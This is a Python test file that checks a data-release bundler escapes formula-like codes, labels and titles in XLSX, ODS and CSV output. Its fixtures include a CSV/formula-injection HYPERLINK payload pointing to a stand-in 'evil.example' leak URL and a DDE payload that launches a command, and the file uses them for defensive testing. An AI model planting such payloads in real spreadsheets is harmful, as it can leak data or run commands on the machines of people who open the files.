"""Codes, labels and titles that look like formulas reach every published file as text.

A code such as ``=HYPERLINK(...)`` or a DDE payload came out of the old bundle as a
formula in tables.xlsx and unescaped in the CSV. Now: every text cell is a string
in XLSX and ODS (no formula anywhere), and the CSV fields get OWASP's apostrophe,
except numbers (``-1`` stays ``-1``). LibreOffice opens both spreadsheets and shows
the text (tests/release/test_libreoffice.py).
"""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from bundle_fixtures import bundle, table
from bundle_sheets import read_book

from fivesafes.sdc.hierarchy import Hierarchy

HYPERLINK = '=HYPERLINK("http://evil.example/?leak","click me")'
DDE = "=cmd|' /C calc'!A0"
CODES = [HYPERLINK, DDE, "@SUM(1)", "+1", "-1", "=1+1"]


def injected_table():
    h = Hierarchy.from_pairs(
        "code", [("Total", None), *((c, "Total") for c in CODES)], labels={"-1": "=2+2"}
    )
    values = {"Total": 60.0, **{c: 10.0 for c in CODES}}
    cells = pd.DataFrame(
        {
            "code": list(values),
            "value": list(values.values()),
            "status": ["safe"] * len(values),
        }
    )
    return table("injected", cells_frame=cells, hierarchies=(h,), measure="=SUM(A1:A9)")


@pytest.fixture(scope="module")
def out(tmp_path_factory):
    return bundle(
        tmp_path_factory.mktemp("inj") / "REL",
        [injected_table()],
        wide_csv=True,
        title="=3+4 release",
        source="@source",
    )


@pytest.mark.parametrize("name", ["tables.xlsx", "tables.ods"])
def test_no_formula_in_any_spreadsheet_cell(out, name):
    book = read_book(out / name)
    kinds = {c.kind for s in book.sheets.values() for r in s.rows for c in r}
    assert "f" not in kinds
    texts = {c.value for s in book.sheets.values() for r in s.rows for c in r if c.kind == "s"}
    for code in CODES:
        assert code in texts, code
    assert "=2+2" in texts and "=3+4 release" in texts and "@source" in texts


def test_old_writer_would_have_made_formulas(tmp_path):
    # the promise is testable: openpyxl's default turns such text into a formula
    from openpyxl import Workbook, load_workbook

    wb = Workbook()
    wb.active.append([HYPERLINK])
    wb.save(tmp_path / "old.xlsx")
    assert load_workbook(tmp_path / "old.xlsx").active["A1"].data_type == "f"


@pytest.mark.parametrize("name", ["injected.csv", "injected_wide.csv"])
def test_csv_fields_that_could_run_get_an_apostrophe(out, name):
    text = (out / name).read_text()
    rows = list(csv.reader(io.StringIO(text)))
    fields = {f for r in rows for f in r}
    for code in (HYPERLINK, DDE, "@SUM(1)", "=1+1", "=2+2"):
        assert "'" + code in fields, code
        assert code not in fields
    assert "+1" in fields and "-1" in fields  # numbers are harmless and stay numbers
    assert "'=SUM(A1:A9)" in rows[0] or any(h.startswith("'=SUM") for h in rows[0])
    for f in fields:
        assert not f.startswith(("=", "@", "\t", "\r")), f
